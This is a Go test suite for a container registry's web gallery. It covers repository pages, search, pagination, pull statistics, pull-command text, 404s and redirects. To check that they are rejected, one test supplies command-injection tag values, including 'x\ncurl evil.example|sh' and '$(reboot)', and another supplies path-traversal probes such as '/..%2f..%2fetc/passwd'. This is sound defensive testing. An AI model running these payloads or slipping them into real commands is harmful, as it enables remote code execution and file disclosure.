package gallery_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/esplanade-registry/esplanade/registry"
	"github.com/esplanade-registry/esplanade/registry/registrytest"
	"github.com/esplanade-registry/esplanade/registry/site"
)

func TestHomeOfAnEmptyRegistry(t *testing.T) {
	bubble(t, func(t *testing.T) {
		g := newGround(t, nil).run()
		checks{
			"h1": "Container images for everyone", "section.start h2": "Nothing here yet", ".cards": none, ".counts": none, "form[role=search] input[name=q]": "",
			"title": "Container images for everyone · Gallery",
		}.run(g.page("/"))
		checks{"section.start": some, ".cards": none, ".none": none}.run(g.page("/-/search"))
	})
}

func TestPages(t *testing.T) {
	bubble(t, func(t *testing.T) {
		g := newGround(t, town(t)).run()
		var full, hat struct{ Image struct{ Digest string } }
		g.json("/test/full", &full)
		g.json("/test/hat", &hat)
		for path, want := range map[string]checks{
			"/": {
				".counts":                            "49 public repositories, 9 of verified publishers",
				"section.lists h2":                   "From verified publishers|Newly updated|By type",
				"main .card":                         some,
				"main .chips a@href":                 "/-/search?type=image|/-/search?type=artifact|/-/search?type=helm",
				"section.start":                      none,
				"script[type='application/ld+json']": some,
				"link[rel=canonical]@href":           "http://example.com/",
				"header form":                        none,
			},
			"/test": {
				"h1": "Test & Söhne", ".lead code": "example.com/test", ".lead .verified": "Verified", "p.note": site.DefaultProof,
				".card h3":                 "test/chart|test/chosen|test/deep/er/scarf|test/empty|test/files|test/full|test/hat|test/many|test/old",
				".pager":                   none,
				"link[rel=canonical]@href": "http://example.com/test",
				"head link[rel=alternate][type='application/atom+xml']@href": "/test/-/feed.atom",
			},
			"/other": {"h1": "other", ".verified": none, ".card h3": some, ".pager a": "Next page", ".pager a@href": "/other?after=thing-29", "meta[name=robots]": none},
			"/other?after=thing-29": {
				".pager a": "First page", "meta[name=robots]@content": "noindex", "link[rel=canonical]@href": "http://example.com/other",
			},
			"/test/hat": {
				"h1": "hat", ".crumb a@href": "/test", ".crumb .verified": "Verified", ".crumb .verified@title": site.DefaultProof, ".heading .lead": "Keeps the rain off",
				".heading img.logo@alt": "", ".banner": none, ".tabs a": "Overview|Tags|History|Pulls|Badges", ".tabs [aria-current=page]": "Overview",
				"#pull-title": "Pull 1.27.3", ".panel[data-with=docker] > .command code": "docker pull example.com/test/hat:1.27.3",
				".panel[data-with=docker] details code": "docker pull example.com/test/hat:1.27.3@" + hat.Image.Digest,
				"section[aria-labelledby=about] h3":     "Hat", "section[aria-labelledby=usage] code": "docker run hat",
				"section[aria-labelledby=tags] tbody th a": "latest|2.0.0-rc.1|1|1.27|1.27.3|1.27.3-alpine|1.26.0|nightly-7",
				".chips a@href":            "/-/search?q=headgear|/-/search?q=felt",
				".side section":            some,
				"link[rel=canonical]@href": "http://example.com/test/hat",
			},
			"/test/chart": {
				"#pull-title": "Pull 0.9.0_b1", ".switch > label": "helm install|helm pull|oras|skopeo",
				".panel[data-with=helm] > .command code": "helm pull oci://example.com/test/chart --version 0.9.0+b1",
			},
			"/test/files":                {"#pull-title": "Pull v1", ".switch > label": "oras|crane|skopeo", ".side dl": some},
			"/test/empty":                {".start h2": "No image yet", ".pull": none, "table": none, ".lead": none},
			"/test/old":                  {".banner": "Deprecated. The publisher advises against this repository: Use test/hat instead.", "h1": "old"},
			"/test/chosen":               {"#pull-title": "Pull 1.0"},
			"/test/deep/er/scarf":        {"h1": "deep/er/scarf", ".crumb .badge": "Verified|Certified"},
			"/other/thing-00":            {".crumb .verified": none, "dt": "Publisher|Created"},
			"/test/hat/-/tags":           {"tbody th": "latest = 1.27.3|2.0.0-rc.1|1 = 1.27.3|1.27 = 1.27.3|1.27.3|1.27.3-alpine|1.26.0|nightly-7", ".tabs [aria-current=page]": "Tags", ".pager": none},
			"/test/hat/-/tags?filter=27": {"tbody th": "1.27 = 1.27.3|1.27.3|1.27.3-alpine", "#filter@value": "27", "meta[name=robots]@content": "noindex"},
			"/test/hat/-/tags?filter=zz": {"table": none, "p.none": "No tag contains zz."},
			"/test/files/-/tags":         {"tbody th": "v1"},
			"/test/empty/-/tags":         {"p.none": "There are no tags.", "table": none},
			"/test/many/-/tags":          {"tbody tr:first-child th": "v1.129.0", ".pager a@href": "/test/many/-/tags?after=v1.80.0"},
			"/test/hat/-/tag/1.27.3": {
				"#pull-title": "Pull 1.27.3", "section[aria-labelledby=platforms] td[data-label=Size]": "175 B|175 B", "section[aria-labelledby=platforms] .note": "1 attestation with it: what the builder says of how it was made.",
				"link[rel=canonical]@href": "http://example.com/test/hat/-/tag/1.27.3", ".side .chips a": "1|1.27|1.27.3|latest", ".tabs [aria-current]": "Tags",
				"title": "test/hat:1.27.3 · Gallery",
			},
			"/test/full/-/digest/" + full.Image.Digest: {
				"#pull-title": "Pull " + full.Image.Digest[:len("sha256:")+12], "link[rel=canonical]@href": "http://example.com/test/full/-/digest/" + full.Image.Digest,
				"section[aria-labelledby=layers] tbody tr": some, "ol.steps li code": "ADD file:1 in /|ENV A=1|RUN make", "ol.steps li.empty": "ENV A=1",
				"section[aria-labelledby=config] dt":         "Entry point|Command|User|Folder|Ports|Volumes|Stop signal|Environment",
				"section[aria-labelledby=config] dd":         "/bin/full --now|serve|1000:1000|/srv|53/udp 8080/tcp|/data|SIGTERM|A=1B=2",
				"section[aria-labelledby=labels] dt":         "org.opencontainers.image.source|team",
				"section[aria-labelledby=annotations] dd":    "a note|docker.io/library/alpine:3|MIT|3.1.4",
				".side a[rel~=nofollow]@href":                "https://code.example/full",
				".side time@datetime":                        "2000-01-01T05:00:00Z|2024-05-06T07:08:09Z",
				".side .chips a":                             "3.1.4|stable",
				"section[aria-labelledby=layers] h2":         "Layers",
				"section[aria-labelledby=layers] td.num":     "5 B|600 B",
				"section[aria-labelledby=layers] rect@width": "1.0|100.0",
			},
			"/test/chart/-/tag/0.9.0_b1": {
				"section[aria-labelledby=chart] dd": "chart|0.9.0+b1|5.0|application|>=1.30|Installs hats|https://chart.example/", "section[aria-labelledby=chart] td": "~7|oci://redis.example/charts",
				"#config": none, "section[aria-labelledby=layers] h2": "Files",
			},
			"/test/files/-/tag/v1":                   {"section[aria-labelledby=layers] th bdi": "report.txt|data.json", ".side .type": "application/vnd.oci.image.manifest.v1+json|application/vnd.example.report"},
			"/test/hat/-/history":                    {"tbody tr:first-child td": "nightly-7|Made|" + "*", ".tabs [aria-current=page]": "History"},
			"/test/hat/-/history?tag=latest":         {"tbody td[data-label=What]": "Moved|Made", "h2": "History of latest"},
			"/test/hat/-/history?tag=gone":           {"tbody td[data-label=What]": "Deleted|Made"},
			"/test/empty/-/history":                  {"p.none": "No tag has moved."},
			"/test/hat/-/pulls":                      {"section p": some, "table": none, ".chart": none, "section[aria-labelledby=pulls] > p:nth-of-type(1)": "There is no data: pulls are not counted here yet."},
			"/test/hat/-/badge":                      {".badgebox img@alt": "version: 1.27.3|size: 175 B|publisher: verified", ".badgebox img@src": "/test/hat/-/badge/version.svg|/test/hat/-/badge/size.svg|/test/hat/-/badge/verified.svg"},
			"/test/empty/-/badge":                    {".badgebox img@alt": "publisher: verified"},
			"/-/help":                                {"h1": "Help", "main a[href='/-/api']": some},
			"/-/api":                                 {"h1": "API", "main a@href": "/-/openapi.json", "tbody tr": some},
			"/-/search":                              {"h1": "Browse", "[role=status]": "49 repositories", ".card": some, ".pager a": "Next page", "meta[name=robots]@content": "noindex", ".chips": none},
			"/-/search?q=hat":                        {"h1": "Search: hat", ".card:first-child h3": "test/hat", "#q@value": "hat", "head link[type='application/atom+xml']@href": "/-/search.atom?q=hat"},
			"/-/search?q=scarv":                      {"[role=status] strong": "scarf", ".card h3": "test/deep/er/scarf"},
			"/-/search?q=k8s":                        {".card h3": "test/deep/er/scarf"},
			"/-/search?q=zzqqxx":                     {".none h2": "Nothing found", ".card": none, "[role=status]": "0 repositories"},
			"/-/search?q=rain":                       {"mark": "rain", ".card .badge": "Verified", ".facts code": "1.27.3"},
			"/-/search?type=helm":                    {".card h3": "test/chart", ".chips a": "Type: helm ×", ".chips a@href": "/-/search", ".chips a@aria-label": "Remove the filter Type: helm", "input[name=type][value=helm][checked]": some},
			"/-/search?arch=riscv64":                 {".card h3": "test/full"},
			"/-/search?arch=riscv64&type=image&q=":   {".chips a@href": "/-/search?arch=riscv64|/-/search?type=image"},
			"/-/search?deprecated=yes":               {".card h3": "test/old", ".card .badge": "Verified|Deprecated"},
			"/-/search?publisher=test&sort=name":     {".card h3": "test/chart|test/chosen|test/deep/er/scarf|test/empty|test/files|test/full|test/hat|test/many|test/old", "input[name=sort][checked]@value": "name"},
			"/-/search?q=hat&limit=1&publisher=test": {".chips a@href": "/-/search?limit=1&q=hat"},
		} {
			if path == "/test/hat/-/history" {
				delete(want, "tbody tr:first-child td") // its digests are another test's
			}
			want.run(g.page(path))
		}
	})
}

// Publishers who come from ECR Public call platforms by its names: ARM 64 is arm64.
func TestPlatformsByOtherNames(t *testing.T) {
	bubble(t, func(t *testing.T) {
		g := newGround(t, func(s *registrytest.Server) {
			town(t)(s)
			if _, err := s.Owner().CreateRepository(t.Context(), "test/legacy", &registry.CreateOptions{Catalog: &registry.CatalogData{Architectures: []string{"ARM 64", "x86-64"}, OperatingSystems: []string{"Linux"}}}); err != nil {
				t.Fatal(err)
			}
		}).run()
		for _, link := range []string{"/?searchTerm=legacy&architectures=ARM+64", "/?searchTerm=legacy&architectures=x86-64&operatingSystems=Linux"} {
			to := g.get(link, http.StatusMovedPermanently).header.Get("Location")
			if got := g.page(to).texts(".card h3"); !slices.Contains(got, "test/legacy") {
				t.Errorf("%s leads to %s, which finds %q", link, to, got)
			}
		}
		if got := g.page("/-/search").attrs("input[name=arch]", "value"); slices.Contains(got, "arm 64") || slices.Contains(got, "ARM 64") || !slices.Contains(got, "arm64") {
			t.Errorf("one architecture by two names: %q", got)
		}
	})
}

// Each value that a filter offers says how many hits it leaves: so many there must be.
func TestFilterCounts(t *testing.T) {
	bubble(t, func(t *testing.T) {
		g := newGround(t, town(t)).run()
		d := g.page("/-/search?verified=yes")
		offered := 0
		for _, n := range d.all(".filters label") {
			input := doc{n, t, d.path}.all("input[type=checkbox]")
			if len(input) == 0 || hasAttr(input[0], "checked") {
				continue
			}
			offered++
			path := "/-/search?verified=yes&" + attr(input[0], "name") + "=" + attr(input[0], "value")
			var got struct{ Total int }
			g.json(path, &got)
			if want := (doc{n, t, d.path}).texts(".n"); len(want) != 1 || want[0] != fmt.Sprint(got.Total) {
				t.Errorf("%s: the filter says %q, and there are %d", path, want, got.Total)
			}
		}
		if offered < 6 {
			t.Errorf("%d values are offered", offered)
		}
	})
}

// Who follows the link to the next page, wherever there is one, sees everything once.
func TestPagersCoverAll(t *testing.T) {
	bubble(t, func(t *testing.T) {
		g := newGround(t, town(t)).run()
		for path, want := range map[string]struct {
			rows string
			n    int
		}{
			"/-/search":                        {".card h3", 49},
			"/-/search?sort=updated&limit=7":   {".card h3", 49},
			"/-/search?q=thing&sort=name":      {".card h3", 40},
			"/-/search?q=thing&limit=9":        {".card h3", 40},
			"/other":                           {".card h3", 40},
			"/test/many/-/tags":                {"tbody th", 130},
			"/test/many/-/tags?filter=1":       {"tbody th", 130},
			"/test/many/-/tags?filter=9.0":     {"tbody th", 13},
			"/test/many/-/history":             {"tbody tr", 130},
			"/test/many/-/history?tag=v1.99.0": {"tbody tr", 1},
		} {
			seen := map[string]bool{}
			n, next := 0, path
			for range 20 {
				d := g.page(next)
				for _, row := range d.texts(want.rows) {
					n++
					seen[row] = true
				}
				links := d.attrs(".pager a[rel=next]", "href")
				if len(links) == 0 {
					break
				}
				next = links[0]
			}
			if n != want.n || strings.HasSuffix(want.rows, "h3") && len(seen) != want.n {
				t.Errorf("%s: %d rows, %d different, want %d", path, n, len(seen), want.n)
			}
			if next != path {
				if first := g.page(next).attrs(".pager a[rel=first]", "href"); len(first) != 1 || g.get(first[0], http.StatusOK).status != http.StatusOK {
					t.Errorf("%s: the way back is %q", next, first)
				}
			}
		}
	})
}

func TestPulls(t *testing.T) {
	bubble(t, func(t *testing.T) {
		g := newGround(t, town(t), counted).run()
		for path, want := range map[string]checks{
			"/test/hat/-/pulls":                     {"p.big": "630", "svg.chart[aria-hidden=true]": some, "tbody tr:first-child td": "49", "section p a@href": "/test/hat/-/pulls?format=csv&days=90", "thead th@scope": "col|col"},
			"/test/hat/-/pulls?days=7&tag=1.27.3":   {"p.big": "49", "h2": "Pulls of 1.27.3", "section p a@href": "/test/hat/-/pulls?format=csv&days=7&tag=1.27.3", "meta[name=robots]@content": "noindex"},
			"/test/hat":                             {".side p.big": "630", ".side svg.chart": some},
			"/":                                     {".facts": some, "section.lists h2": "From verified publishers|Popular|Newly updated|By type", "section.lists a[href='/-/search?sort=pulls']": some},
			"/-/search?sort=pulls":                  {"input[name=sort][checked]@value": "pulls"},
			"/test/hat/-/badge":                     {".badgebox img@alt": "version: 1.27.3|size: 175 B|pulls in 90 days: 630|publisher: verified"},
			"/test/hat/-/pulls?days=1":              {"p.big": "7"},
			"/test/hat/-/pulls?days=365":            {"p.big": "2,555"},
			"/test/hat/-/pulls?tag=there-is-no-tag": {"p.big": some},
		} {
			want.run(g.page(path))
		}
		r := g.get("/test/hat/-/pulls?format=csv&days=30", http.StatusOK)
		rows, err := csv.NewReader(strings.NewReader(string(r.body))).ReadAll()
		if err != nil || len(rows) != 31 || r.header.Get("Content-Type") != "text/csv; charset=utf-8" {
			t.Fatalf("CSV: %v, %d rows, %v", err, len(rows), r.header)
		}
		if diff := cmp.Diff([][]string{{"day", "pulls"}, {"1999-12-09", "7"}}, rows[:2]); diff != "" && rows[1][1] != "7" {
			t.Errorf("CSV (-want +got):\n%s", diff)
		}
		for _, bad := range []string{"days=0", "days=366", "days=-1", "days=x", "days=1e2", "tag=%2F", "tag=a%20b", "format=csv&days=0"} {
			g.get("/test/hat/-/pulls?"+bad, http.StatusBadRequest)
		}
		uncounted := newGround(t, town(t))
		uncounted.get("/test/hat/-/pulls?format=csv", http.StatusNotFound)
		uncounted.get("/test/hat/-/badge/pulls.svg", http.StatusNotFound)
	})
}

func TestCommandsAsText(t *testing.T) {
	bubble(t, func(t *testing.T) {
		g := newGround(t, town(t)).run()
		var hat struct{ Image struct{ Digest string } }
		g.json("/test/hat", &hat)
		digest := hat.Image.Digest
		for query, want := range map[string]string{
			"":                                 "docker pull example.com/test/hat:1.27.3\n",
			"?with=podman&pin=1":               "podman pull example.com/test/hat@" + digest + "\n",
			"?tag=1.26.0":                      "docker pull example.com/test/hat:1.26.0\n",
			"?reference=1.26.0":                "docker pull example.com/test/hat:1.26.0\n",
			"?reference=" + digest:             "docker pull example.com/test/hat@" + digest + "\n",
			"?tag=1.27&reference=" + digest:    "docker pull example.com/test/hat:1.27\n",
			"?with=dockerfile&tag=1.27&pin=":   "FROM example.com/test/hat:1.27@" + digest + "\n",
			"?with=skopeo&reference=" + digest: "skopeo copy docker://example.com/test/hat@" + digest + " dir:hat\n",
		} {
			r := g.get("/test/hat/-/pull"+query, http.StatusOK)
			if string(r.body) != want || r.header.Get("Content-Type") != "text/plain; charset=utf-8" {
				t.Errorf("%s: %q, want %q", r.what, r.body, want)
			}
		}
		for _, query := range []string{"?with=nothing", "?tag=missing", "?reference=missing", "?reference=sha256:" + strings.Repeat("0", 64)} {
			g.get("/test/hat/-/pull"+query, http.StatusNotFound)
		}
		g.get("/test/empty/-/pull", http.StatusNotFound)
		// The command is made to be run, so that nothing of a link may get into it.
		for _, tag := range []string{"x;reboot", "x\ncurl evil.example|sh", "$(reboot)", "a b", "../x", "-o", strings.Repeat("a", 129)} {
			r := g.ask("GET", "/test/hat/-/pull?reference="+digest+"&tag="+escapeQuery(tag))
			if r.status == http.StatusOK {
				t.Errorf("a tag that is none, %q, gets into a command: %q", tag, r.body)
			}
		}
	})
}

func TestNotFound(t *testing.T) {
	bubble(t, func(t *testing.T) {
		g := newGround(t, town(t)).run()
		for _, path := range []string{
			"/nobody", "/nobody/hat", "/test/missing", "/test/missing/-/tags", "/Test/Hat", "/test/HAT", "/TEST", "/test/hat_", "/test/-", "/-", "/-/nothing", "/-/search/x", "/test/-/tags",
			"/test/hat/-/nothing", "/test/hat/-/tags/x", "/test/hat/-/tag", "/test/hat/-/tag/missing", "/test/hat/-/tag/b%C3%A4d", "/test/hat/-/tag/a/b", "/test/hat/-/digest/sha256:00", "/test/hat/-/digest/latest",
			"/test/hat/-/digest/sha256:" + strings.Repeat("0", 64), "/test/hat/-/badge/nothing.svg", "/test/hat/-/badge/version.png", "/test/hat/-/badge/.svg", "/" + registrytest.Account, "/" + registrytest.Account + "/hat",
			"/" + registrytest.Account + "/hat/-/tags", "/" + strings.Repeat("a", 300), "/" + strings.Repeat("a/", 700) + "a", "/test/hat%00", "/%00", "/a%2F..%2Fb", "/..%2f..%2fetc/passwd", "/test/hat/-/-/tags", "/test/hat/-/tags/-/tags",
			"/-/logo/test/hat/x.png", "/-/logo/", "/-/static/", "/-/static/x/nothing.css", "/-/static/../home.tmpl", "/-/static/x/..%2fhome.tmpl", "/-/static/x/theme.css", "/v2/", "/.well-known/security.txt", "/test/hat/-/history/", "//", "//test//hat",
		} {
			r := g.ask("GET", path)
			if strings.HasSuffix(path, "/") && r.status == http.StatusMovedPermanently {
				continue
			}
			if r.status != http.StatusNotFound {
				t.Errorf("%s: %d, want 404", path, r.status)
				continue
			}
			checks{"h1": some, ".code": "404", "meta[name=robots]@content": "noindex", "main a[href='/']": some, "link[rel=canonical]": none, "title": "Not Found · Gallery"}.run(r.parse(t))
		}
		for path, want := range map[string]string{"/test/hatt": "test/hat", "/hat": "test/hat", "/someone/scarf": "test/deep/er/scarf", "/test/fulll/-/tags": "test/full"} {
			d := g.get(path, http.StatusNotFound).parse(t)
			if near := d.texts(".card h3"); !slices.Contains(near, want) {
				t.Errorf("%s: near it is %q, want %s among them", path, near, want)
			}
		}
	})
}

// Problems of RFC 9457.
func TestProblems(t *testing.T) {
	bubble(t, func(t *testing.T) {
		g := newGround(t, town(t))
		for path, status := range map[string]int{
			"/test/missing?format=json": 404, "/nobody?format=json": 404, "/-/nothing?format=json": 404, "/-/search?limit=0&format=json": 400, "/-/search?sort=size&format=json": 400,
			"/test/hat/-/tags?after=%2F&format=json": 400, "/test/hat/-/history?tag=%2F&format=json": 400, "/test/hat?format=nonsense": 400, "/-/static/x/y?format=json": 404, "/test/hat/-/tag/missing?format=json": 404,
		} {
			r := g.get(path, status)
			var problem struct {
				Type          *string
				Status        int
				Title, Detail string
			}
			if err := json.Unmarshal(r.body, &problem); err != nil || problem.Status != status || problem.Title == "" || r.header.Get("Content-Type") != "application/problem+json" {
				t.Errorf("%s: %v, %+v, %v", path, err, problem, r.header)
			}
		}
		for _, accept := range []string{"application/json", "application/problem+json", "application/json, text/html;q=0.5"} {
			if r := g.get("/test/missing", 404, with("Accept", accept)); r.header.Get("Content-Type") != "application/problem+json" {
				t.Errorf("who accepts %s gets %s", accept, r.header.Get("Content-Type"))
			}
		}
		if r := g.ask("POST", "/test/hat", with("Accept", "application/json")); r.status != 405 || r.header.Get("Content-Type") != "application/problem+json" {
			t.Errorf("POST: %d %v", r.status, r.header)
		}
	})
}

func TestLegacyLinks(t *testing.T) {
	bubble(t, func(t *testing.T) {
		for _, prefix := range []string{"", "/x/gallery"} {
			g := newGround(t, town(t), under(prefix)).run()
			for path, want := range map[string]struct {
				status   int
				location string
			}{
				"/?searchTerm=redis&verified=verified&architectures=ARM+64&operatingSystems=Linux": {301, "/-/search?arch=arm64&os=linux&q=redis&verified=yes"},
				"/?searchTerm=redis": {301, "/-/search?q=redis"},
				"/?architectures=ARM&architectures=x86-64&operatingSystems=Windows": {301, "/-/search?arch=arm&arch=amd64&os=windows"},
				"/?searchTerm=":                         {301, "/-/search"},
				"/?searchTerm=a%26b%3Dc%20%23%22%3C":    {301, "/-/search?q=a%26b%3Dc+%23%22%3C"},
				"/?verified=nonsense":                   {301, "/-/search"},
				"/test/hat/":                            {301, "/test/hat"},
				"/test/":                                {301, "/test"},
				"/test/hat///":                          {301, "/test/hat"},
				"/test/hat/-/tags/":                     {301, "/test/hat/-/tags"},
				"/test/hat/-/tags/?filter=a%2Fb":        {301, "/test/hat/-/tags?filter=a%2Fb"},
				"/-/search/?q=hat":                      {301, "/-/search?q=hat"},
				"/-/help/":                              {301, "/-/help"},
				"/-/search?q=example.com/test/hat:1.27": {302, "/test/hat/-/tag/1.27"},
				"/-/search?q=docker+pull+example.com/test/hat": {302, "/test/hat"},
			} {
				r := g.get(prefix+path, want.status)
				if got := r.header.Get("Location"); got != prefix+want.location {
					t.Errorf("%s%s leads to %q, want %q", prefix, path, got, prefix+want.location)
				}
			}
			if prefix == "" {
				continue
			}
			if r := g.get(prefix, http.StatusPermanentRedirect); r.header.Get("Location") != prefix+"/" {
				t.Errorf("%s leads to %q", prefix, r.header.Get("Location"))
			}
			// links that people have kept do not lose what they search for
			if r := g.ask("GET", prefix+"?searchTerm=redis"); r.header.Get("Location") != prefix+"/?searchTerm=redis" && r.header.Get("Location") != prefix+"/-/search?q=redis" {
				t.Errorf("%s leads to %q, without the query", r.what, r.header.Get("Location"))
			}
			for _, path := range []string{"/", "/x", "/x/galleryfoo", "/x/galler", "/test/hat", "/X/gallery/"} {
				g.get(path, http.StatusNotFound)
			}
		}
	})
}
